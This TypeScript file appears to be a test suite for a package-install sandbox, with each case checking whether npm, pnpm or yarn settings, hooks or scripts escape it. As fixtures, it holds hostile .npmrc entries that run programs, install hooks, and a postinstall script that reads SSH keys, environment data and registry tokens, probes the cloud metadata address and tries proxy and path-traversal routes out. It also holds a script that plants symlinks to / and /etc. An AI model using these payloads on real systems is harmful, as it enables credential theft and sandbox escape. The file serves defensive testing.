// Programs, settings and scripts that packages and repositories bring along, and what they can reach in the sandbox.

import { existsSync, lstatSync } from 'node:fs'
import { join } from 'node:path'
import type { Attack } from '../attack.ts'
import {
  type InstallAttack,
  type InstallScene,
  installing,
  KEY,
  manifest,
  TOKEN,
  textIn,
} from './installing.ts'

const attackBy = (title: string, attack: InstallAttack): Attack => ({ title, play: () => installing(attack) })

const SETTINGS = [
  ...['git', 'script-shell', 'shell', 'editor', 'viewer', 'init-module', 'onload-script', 'python'],
  ...['node-gyp', 'pnpmfile', 'global-pnpmfile', 'yarn-path'],
]

/** Each program-bearing setting of a `.npmrc`, and the places that lead npm to other settings. */
function everySetting({ hostile, evil }: InstallScene): string {
  const program = hostile.program('setting')
  const script = hostile.program('node-options')
  const lines = SETTINGS.map((name) => `${name}=${program}`)
  return [
    ...lines,
    `node-options=--require ${script}`,
    `globalconfig=${hostile.path}/evil-npmrc`,
    `userconfig=${hostile.path}/evil-npmrc`,
    `prefix=${hostile.path}`,
    `cafile=/etc/passwd`,
    `https-proxy=${evil.url}`,
    `proxy=${evil.url}`,
    `ignore-scripts=false`,
    `enable-pre-post-scripts=true`,
    `//127.0.0.1/:tokenHelper=${program}`,
    '',
  ].join('\n')
}

/** A package that depends on one with a script. */
function withScript({ own }: InstallScene, script: string): void {
  own.publish('a', '1.0.0', { 'script.cjs': script }, { scripts: { postinstall: 'node script.cjs' } })
}

/** What a script can see and reach; it writes that into its own folder. */
const looking = ({ evil, hostile }: InstallScene) => `
const { connect } = require('node:net')
const { readFileSync, readdirSync, writeFileSync } = require('node:fs')
const seen = [JSON.stringify(process.env)]
const look = (path) => { try { seen.push(path + ': ' + readFileSync(path, 'utf8')) } catch {} }
for (const path of ['/proc/1/environ', '/proc/1/cmdline', process.env.HOME + '/.npmrc', '/root/.npmrc', '/root/.ssh/id_rsa']) look(path)
try { writeFileSync(${JSON.stringify(join(hostile.playground.root, 'mark'))}, 'script') } catch {}
const through = (target) => new Promise((resolve) => {
  const socket = connect(4873, '127.0.0.1', () => socket.write('CONNECT ' + target + ' HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'))
  socket.on('data', (data) => { seen.push(target + ' ' + data); socket.write('GET / HTTP/1.1\\r\\n\\r\\n'); setTimeout(() => resolve(socket.destroy()), 100) })
  socket.on('error', resolve)
  socket.on('close', resolve)
})
const direct = (port) => new Promise((resolve) => {
  const socket = connect(port, '127.0.0.1', () => { seen.push('direct'); resolve() })
  socket.on('error', resolve)
})
const plain = (path) => fetch('http://127.0.0.1:4873' + path).then(async (r) => seen.push(path + ' ' + r.status + ' ' + (await r.text()).slice(0, 200)), () => {})
;(async () => {
  await direct(${evil.port})
  for (const target of ['127.0.0.1:${evil.port}', 'localhost:${evil.port}', '169.254.169.254:80', '[::1]:${evil.port}', '127.0.0.1:443']) await through(target)
  for (const path of ['/r0/../', '/r0/%2e%2e/x', '/r1/', '/r0//127.0.0.1:${evil.port}/', '/r0/http://127.0.0.1:${evil.port}/', '/http://127.0.0.1:${evil.port}/']) await plain(path)
  writeFileSync('seen.txt', seen.join('\\n'))
})()
`

export const attacks: Readonly<Record<string, Attack>> = {
  settings: attackBy('.npmrc names a program in every setting that can', {
    files(scene) {
      scene.own.publish('a', '1.0.0', { 'index.js': '' })
      return { ...manifest({ dependencies: { a: '1.0.0' } }), '.npmrc': everySetting(scene) }
    },
  }),
  'other-managers': attackBy('files that pnpm and yarn run by themselves', {
    files(scene) {
      const program = scene.hostile.program('manager')
      scene.own.publish('a', '1.0.0', { 'index.js': '' })
      const run = `require('node:child_process').execFileSync(${JSON.stringify(program)})`
      return {
        ...manifest({
          dependencies: { a: '1.0.0' },
          packageManager: 'yarn@4.9.0',
          pnpm: { executionEnv: { nodeVersion: '20.0.0' }, onlyBuiltDependencies: ['a'] },
        }),
        ...{ 'yarn.lock': '', '.pnpmfile.cjs': run, 'pnpmfile.js': run, 'yarn.cjs': run, 'plugin.cjs': run },
        ...{
          '.yarnrc.yml': 'yarnPath: ./yarn.cjs\nplugins: [./plugin.cjs]\n',
          '.yarnrc': 'yarn-path "./yarn.cjs"\n',
        },
        ...{ '.corepack.env': 'COREPACK_NPM_REGISTRY=http://127.0.0.1:9/\n' },
      }
    },
  }),
  scripts: attackBy('scripts of the repository and of a package run while it is installed', {
    files(scene) {
      withScript(scene, `require('node:fs').writeFileSync('ran', '')`)
      const program = scene.hostile.program('own-script')
      return manifest({
        scripts: { test: 'node --test', preinstall: program, prepare: program, postinstall: program },
        dependencies: { a: '1.0.0' },
      })
    },
    gained: (_scene, installed) =>
      existsSync(join(installed ?? '', 'a/ran')) ? 'a script ran although nobody allowed it' : undefined,
  }),
  'allowed-script': attackBy('a script that the user allowed looks for keys and for a way out', {
    files(scene) {
      withScript(scene, looking(scene))
      return manifest({ dependencies: { a: '1.0.0' } })
    },
    allowed: ['scripts'],
    gained({ own }, installed) {
      const seen = textIn(installed, 'a/seen.txt')
      if (seen === '') throw new Error('the script did not run')
      if (seen.includes(KEY) || seen.includes(TOKEN)) return 'a key was seen in the sandbox'
      if (own.credentials.some((credential) => credential !== `Bearer ${TOKEN}`))
        return 'another credential was sent'
      return /^direct|\b200 Connection/m.test(seen) ? `there is a way out: ${seen.slice(-300)}` : undefined
    },
  }),
  'allowed-script-shapes-the-folder': attackBy(
    'a script puts links and a list of readable folders beside the packages',
    {
      files(scene) {
        const links = `const fs = require('node:fs')
fs.writeFileSync('../../readable.json', '["/"]')
fs.writeFileSync('../../../readable.json', '["/"]')
fs.symlinkSync('/', '../host')
fs.mkdirSync('../@s'); fs.symlinkSync('/etc', '../@s/etc')`
        withScript(scene, links)
        return manifest({ dependencies: { a: '1.0.0' } })
      },
      allowed: ['scripts'],
      gained(_scene, installed) {
        if (installed === undefined) return undefined
        const stray = ['host', '@s/etc', '../readable.json'].find(
          (name) => lstatSync(join(installed, name), { throwIfNoEntry: false }) !== undefined,
        )
        return stray === undefined ? undefined : `${stray} was kept`
      },
    },
  ),
}
